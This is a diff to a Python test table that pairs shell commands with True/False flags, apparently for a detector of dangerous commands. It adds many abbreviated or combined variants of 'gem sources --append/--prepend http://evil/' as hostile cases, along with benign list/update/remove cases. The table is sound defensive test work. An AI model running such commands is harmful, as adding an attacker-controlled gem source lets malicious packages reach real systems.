@@ -26,6 +26,14 @@ ROWS = [
     # honest: the same options before one's own script
     ("ruby -W0 x.rb", False), ("ruby -Ku x.rb", False), ("ruby -W:no-deprecated x.rb", False),
     ("ruby -WC /tmp x.rb", False), ("ruby -00 -ne 'print' x.txt", False), ("jruby -J-Xmx1g x.rb", False),
+    # finding 2: RubyGems 3.7.2's `--append`, `-p/--prepend` add a source too
+    *((f"gem {verb} {opts} http://evil/", True) for verb in ("sources", "so", "sou?") for opts in (
+        "--append", "--app", "--ap", "--a", "--prepend", "--pre", "--p", "-p", "-lp", "-fp", "-cp")),
+    *((f"gem sources {opts}", True) for opts in ("--app=http://evil/", "--prepend=http://evil/",
+                                                  "-phttp://evil/", "-lphttp://evil/")),
+    # honest: listing, updating, removing a source
+    *((f"gem sources {opts}", False) for opts in ("-l", "--list", "-u", "--update", "-r http://old/",
+                                                   "--remove http://old/", "-rp")),
 ]
 
 
